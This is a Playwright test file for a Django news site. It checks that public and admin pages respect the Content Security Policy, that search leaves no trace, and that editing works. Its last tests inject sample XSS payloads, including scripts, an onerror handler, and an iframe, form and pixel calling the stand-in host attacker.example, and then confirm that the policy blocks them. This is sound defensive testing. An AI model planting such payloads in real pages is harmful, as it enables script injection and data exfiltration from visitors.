"""The site and the admin in Chromium: everything works under the CSP, and the CSP holds."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, Route, expect
from pytest_django.live_server_helper import LiveServer

from articles.editorial.saving import save_article
from articles.models import Article, Author, Picture
from articles.search import query
from keys import tokens
from keys.tokens import TokenKind
from newsletter.models import Mailing, Subscriber
from tests.articles.browser import ADD, change_url
from tests.chromium import CHROMIUM, BrowserWindow, wait_until_answered
from tests.factories import (
    MONDAY_MORNING,
    WEEK,
    a_jpeg,
    make_article,
    make_mailing,
    make_page,
    make_topic,
    make_user,
)
from tests.needles import files_below, of_text, search
from tests.services import program

pytestmark = pytest.mark.django_db(transaction=True)
ADDRESSES = """all => all.map((one) =>
  new URL(one.getAttribute("href"), document.baseURI).href.split("#")[0])"""


@pytest.fixture
def visitor(chromium: Browser, live_server: LiveServer) -> Iterator[BrowserWindow]:
    """A window of its own."""
    context = chromium.new_context(viewport={"width": 1280, "height": 900}, locale="en")
    opened = BrowserWindow(context, live_server.url)
    yield opened
    opened.close()


@pytest.fixture
def editor(visitor: BrowserWindow) -> BrowserWindow:
    """The window of a superuser."""
    visitor.log_in(make_user())
    return visitor


def a_whole_site() -> Mailing:
    """Something for every kind of page."""
    mailing = make_mailing()
    article = make_article(topic=make_topic(code="west", position=2), verdict="worsened")
    article.verdict = "improved"
    save_article(article, by=make_user(), now=MONDAY_MORNING)
    make_page(code="about")
    make_page(code="privacy")
    Author.objects.create(name_en="Hanna Lis", name_be="Ганна Ліс", name_ru="Анна Лис")
    return mailing


def pages_of_each_kind(visitor: BrowserWindow, start: str) -> list[str]:
    """Follows the links from there, opens one page of each kind, and says which."""
    waiting, kinds, opened = [start], set(), []
    staff = start.startswith("/admin/")
    while waiting:
        path = waiting.pop(0)
        kind = re.sub(r"\d[\d-]*(/[^/]+(?=/$))?|/(be|en|ru)/", "#", urlsplit(path).path)
        # Chromium keeps a CSV instead of showing it.
        if (
            kind in kinds
            or "logout" in kind
            or kind.endswith(".csv")
            or path.startswith("/admin/") != staff
        ):
            continue
        kinds.add(kind)
        opened.append(path)
        hrefs = visitor.go(path).eval_on_selector_all("a[href]", ADDRESSES)
        waiting += [
            href.removeprefix(visitor.url) for href in hrefs if href.startswith(visitor.url)
        ]
    return opened


def saved(page: Page, button: str) -> None:
    """Presses it and waits for what the next page says."""
    page.get_by_role("button", name=button, exact=True).click()
    expect(
        page.get_by_text("was added successfully").or_(page.get_by_text("was changed successfully"))
    ).to_be_visible()


def test_no_public_page_violates_the_csp(visitor: BrowserWindow) -> None:
    a_whole_site()
    token = tokens.make_token(TokenKind.LETTER, Subscriber.objects.first().pk, 1)
    opened = pages_of_each_kind(visitor, "/be/")
    kinds = ["/weeks/", "/topics/elite/", "/subscribe/", "/barometer/", "/about/", "/privacy/"]
    kinds.append("/search/")
    assert all(any(path.endswith(kind) for path in opened) for kind in kinds), opened
    for path in ("/en/nowhere/", "/en/confirm/nonsense/", f"/ru/letter/{token}/"):
        visitor.go(path)
    assert visitor.refused == []


def test_signing_up_and_unsubscribing_need_no_script(
    chromium: Browser, live_server: LiveServer
) -> None:
    make_mailing(readers=1)
    subscriber = Subscriber.objects.get()
    context = chromium.new_context(java_script_enabled=False, locale="en")
    page = context.new_page()
    page.goto(f"{live_server.url}/en/")
    page.get_by_label("address").fill("new@example.org")
    page.get_by_role("button", name="Subscribe").click()
    expect(page.get_by_role("heading", name="One more step")).to_be_visible()
    page.goto(
        f"{live_server.url}/en/letter/{tokens.make_token(TokenKind.LETTER, subscriber.pk, 1)}/"
    )
    page.get_by_role("button", name="Leave the list").click()
    expect(page.get_by_role("heading", name="You have left the list")).to_be_visible()
    assert context.cookies() == []
    context.close()


@pytest.fixture
def two_pages_of_results(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(query, "PAGE_SIZE", 2)
    for number in range(3):
        make_article(week=WEEK.previous(number), title=f"N{number}")


def test_searching_and_paging_need_no_script_and_leave_no_trace(
    chromium: Browser, live_server: LiveServer, two_pages_of_results: None
) -> None:
    context = chromium.new_context(java_script_enabled=False, locale="en")
    page = context.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    look_for(page, live_server, "budgets")
    expect(page.get_by_role("heading", name="3 articles found")).to_be_visible()
    expect(page.locator("mark").first).to_have_text("budget")
    page.get_by_role("link", name="Next page").click()
    expect(page.get_by_role("link", name="N2 en")).to_be_visible()
    assert re.search(r"/en/search/[a-z2-7]+/2/$", page.url)
    page.get_by_role("main").get_by_role("link", name="Беларуская").click()
    expect(page.get_by_role("heading", name="Нічога не знойдзена")).to_be_visible()
    assert not any("budget" in url.lower() for url in [*asked, page.title()])
    assert context.cookies() == []
    context.close()


def test_who_goes_back_from_an_article_has_the_results_again(
    chromium: Browser, live_server: LiveServer, two_pages_of_results: None
) -> None:
    context = chromium.new_context(java_script_enabled=False, locale="en")
    page = context.new_page()
    look_for(page, live_server, "budgets")
    page.get_by_role("link", name="Next page").click()
    page.get_by_role("link", name="N2 en").click()
    expect(page.get_by_role("heading", level=1, name="N2 en")).to_be_visible()
    page.go_back()
    expect(page.get_by_role("link", name="N2 en")).to_be_visible()
    expect(page.get_by_label("Words")).to_have_value("budgets")
    page.reload()
    expect(page.get_by_role("link", name="N2 en")).to_be_visible()
    page.go_back()
    expect(page.get_by_role("heading", name="3 articles found")).to_be_visible()
    page.go_back()
    expect(page.get_by_role("heading", level=1, name="Search")).to_be_visible()
    expect(page.get_by_label("Words")).to_have_value("")
    page.go_forward()
    expect(page.get_by_role("heading", name="3 articles found")).to_be_visible()
    context.close()


def test_a_browser_keeps_nothing_of_what_was_searched_for(
    chromium: Browser, live_server: LiveServer, tmp_path: Path
) -> None:
    """Its history has the address, which nobody can read once the search is over."""
    article = make_article()
    # Not the form of the word that is in the article, which is kept as any page is.
    sought = "budgeted"
    kind = chromium.browser_type
    context = kind.launch_persistent_context(
        tmp_path, executable_path=program("chromium"), args=CHROMIUM, locale="en"
    )
    page = context.pages[0]
    look_for(page, live_server, sought)
    address = page.url.removeprefix(live_server.url)
    page.get_by_role("main").get_by_role("link", name="The budget en").click()
    expect(page.get_by_role("heading", level=1, name="The budget en")).to_be_visible()
    page.go_back()
    expect(page.get_by_label("Words")).to_have_value(sought)
    context.close()
    wait_until_answered()
    kept = list(files_below(tmp_path))
    assert search(kept, of_text(sought)) == []
    for known in (address, article.path_in("en")):
        assert search(kept, of_text(known)) != [], "the history is not where it is looked for"


def look_for(page: Page, live_server: LiveServer, words: str) -> None:
    """From the home page on."""
    page.goto(f"{live_server.url}/en/")
    page.get_by_role("link", name="Search").click()
    page.get_by_label("Words").fill(words)
    page.get_by_role("button", name="Find").click()
    expect(page.get_by_role("heading", name="found")).to_be_visible()


@pytest.mark.long
def test_no_admin_page_violates_the_csp(editor: BrowserWindow) -> None:
    a_whole_site()
    opened = pages_of_each_kind(editor, "/admin/")
    for kind in (
        "article/add/",
        "author/",
        "digest/",
        "page/",
        "mailing/",
        "user/",
        "account/password/",
        "factor/",
    ):
        assert any(kind in path for path in opened), opened
    assert editor.refused == []
    assert editor.errors == []


def test_an_analyst_writes_in_the_editor_and_what_was_typed_is_saved(editor: BrowserWindow) -> None:
    make_topic()
    page = editor.go(ADD)
    page.get_by_role("tab", name="Беларуская").click()
    page.locator("[name=title_be]").fill("Бюджэт")
    typing = page.locator(".cke_wysiwyg_div[lang=be]")
    typing.click()
    page.keyboard.type("Падзагаловак")
    page.locator(".cke_combo__format:visible .cke_combo_button").click()
    page.frame_locator("iframe.cke_panel_frame").get_by_role("option", name="Heading 2").click()
    expect(typing.locator("h2")).to_be_visible()
    expect(typing).to_be_focused()
    page.keyboard.press("End")
    page.keyboard.press("Enter")
    page.keyboard.type("Бюджэт ")
    page.locator(".cke_button__bold:visible").click()
    page.keyboard.type("расце")
    page.locator(".cke_button__bold:visible").click()
    page.keyboard.press("Enter")
    page.locator(".cke_button__link:visible").click()
    dialog = page.get_by_role("dialog")
    # It fills its fields once it is open, and then looks at the address.
    expect(dialog.get_by_label("URL").last).to_be_focused()
    dialog.get_by_label("Display Text").fill("Крыніца")
    dialog.get_by_label("URL").last.fill("example.org/budget")
    dialog.get_by_role("button", name="OK").click()
    saved(page, "Save and continue editing")
    assert editor.refused == editor.errors == []
    # A browser may keep a typed space from breaking the line.
    assert Article.objects.get().body_be.replace("&nbsp;", " ") == (
        "<h2>Падзагаловак</h2>\n\n<p>Бюджэт <strong>расце</strong></p>\n\n"
        '<p><a href="https://example.org/budget" rel="noopener noreferrer">Крыніца</a></p>'
    )


def test_a_picture_is_uploaded_on_the_way_into_the_text(editor: BrowserWindow) -> None:
    page = editor.go(ADD)
    with editor.context.expect_page() as opening:
        page.locator(".cke_button__picture:visible").click()
    library = opening.value
    library.goto(f"{editor.url}/admin/articles/picture/add/?_popup=1&_to_field=id")
    upload = {"name": "x.jpg", "mimeType": "image/jpeg", "buffer": a_jpeg()}
    library.locator("input[type=file]").set_input_files([upload])
    library.get_by_role("button", name="Save", exact=True).click()
    expect(page.locator(".cke_wysiwyg_div:visible figure img")).to_have_attribute(
        "src", Picture.objects.get().path
    )


def test_the_forms_helpers_work(editor: BrowserWindow) -> None:
    """The calendar, the search for an author, the theme, the list's actions, the palette."""
    Author.objects.create(name_en="Hanna Lis", name_be="Ганна Ліс", name_ru="Анна Лис")
    make_article()
    page = editor.go(ADD)
    page.locator(".datetimeshortcuts, .date-icon").first.click()
    page.locator(".calendarbox:visible td a").first.click()
    expect(page.locator("[name=week]")).to_have_value(re.compile(r"^\d{4}-\d\d-\d\d$"))
    page.locator(".field-authors .select2-selection").click()
    page.keyboard.type("Lis")
    page.get_by_role("option", name="Hanna Lis").click()
    expect(page.locator(".field-authors .select2-selection")).to_contain_text("Hanna Lis")

    page = editor.go("/admin/articles/article/")
    page.locator("#action-toggle").click()
    expect(page.locator("#changelist-actions")).to_be_visible()
    page = editor.go("/admin/articles/article/")
    page.keyboard.press("Control+e")
    expect(page.locator("html")).to_have_class(re.compile("dark|light"))
    page.keyboard.press("Control+k")
    expect(page.locator("[x-ref=searchInputCommand]")).to_be_focused()
    page.keyboard.type("digest")
    expect(page.locator("#command-results")).to_contain_text("Digests")
    assert editor.refused == editor.errors == []


PLANTED = """
<div id="planted"><script>document.title = "owned"</script>
<script src="https://attacker.example/x.js"></script>
<img src="https://attacker.example/pixel.png">
<img src="/nowhere.png" onerror="document.title = 'owned'">
<style>main { display: none }</style><iframe src="https://attacker.example/"></iframe>
<form action="https://attacker.example/" method="post"><button>Planted</button></form></div>
"""
SUBMITTING = """() => new Promise((refused) => {
  document.addEventListener("securitypolicyviolation", 
    (event) => refused(event.effectiveDirective));
  document.querySelector("#planted form").submit();
})"""


def plant(visitor: BrowserWindow, path: str) -> Page:
    """Opens the page as if the sanitiser and every template had a hole."""

    def answer(route: Route) -> None:
        response = route.fetch()
        body = response.text().replace("</body>", f"{PLANTED}</body>")
        route.fulfill(response=response, body=body)

    visitor.context.route(visitor.url + path, answer)
    # The pixel's and the script's host does not exist; whether it was asked is what counts.
    visitor.context.route("https://attacker.example/**", lambda route: asked.append(route))
    asked: list[Route] = []
    page = visitor.go(path)
    expect(page.locator("#planted")).to_be_attached()
    assert page.title() != "owned"
    assert asked == []
    return page


def test_what_is_injected_into_a_public_page_neither_runs_nor_calls_home(
    visitor: BrowserWindow,
) -> None:
    page = plant(visitor, make_article().path_in("en"))
    expect(page.locator("main")).to_be_visible()
    assert page.evaluate(SUBMITTING) == "form-action"
    refused = {line.split(" refused ")[0] for line in visitor.refused if " refused " in line}
    assert refused >= {
        *("script-src-elem", "script-src-attr", "style-src-elem"),
        *("img-src", "frame-src"),
    }


def test_what_is_injected_into_the_admin_neither_runs_nor_calls_home(editor: BrowserWindow) -> None:
    plant(editor, "/admin/")
    refused = {line.split(" refused ")[0] for line in editor.refused if " refused " in line}
    assert refused >= {"script-src-elem", "script-src-attr", "style-src-elem", "img-src"}


def test_not_even_beside_the_editor_does_a_planted_script_element_run(
    editor: BrowserWindow,
) -> None:
    """What CKEditor needs opens attributes and styles, and neither scripts nor the world."""
    path = change_url(make_article())
    page = editor.go(path)
    page.evaluate("""() => {
        const script = document.createElement("script");
        script.textContent = "document.title = 'owned'";
        document.body.append(script);
        const far = document.createElement("script");
        far.src = "https://attacker.example/x.js";
        document.body.append(far);
        new Image().src = "https://attacker.example/pixel.png";
        return fetch("https://attacker.example/").catch(() => null);
    }""")
    assert page.title() != "owned"
    refused = {line.split(" refused ")[0] for line in editor.refused if " refused " in line}
    assert refused >= {"script-src-elem", "img-src", "connect-src"}
